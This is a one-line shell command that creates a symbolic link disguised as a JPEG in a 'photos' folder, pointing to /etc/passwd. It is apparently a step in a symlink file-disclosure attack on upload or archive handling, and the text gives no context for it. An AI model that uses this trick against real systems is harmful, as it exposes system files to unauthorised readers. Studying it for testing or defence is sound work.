ln -s /etc/passwd photos/link.jpg
